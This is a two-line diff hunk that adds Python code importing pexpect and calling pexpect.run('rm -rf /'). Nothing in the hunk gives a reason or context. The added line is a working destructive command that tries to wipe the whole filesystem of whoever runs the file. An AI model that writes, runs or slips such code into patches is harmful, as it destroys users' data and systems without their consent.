@@ -1,0 +1,2 @@
+import pexpect
+pexpect.run("rm -rf /")
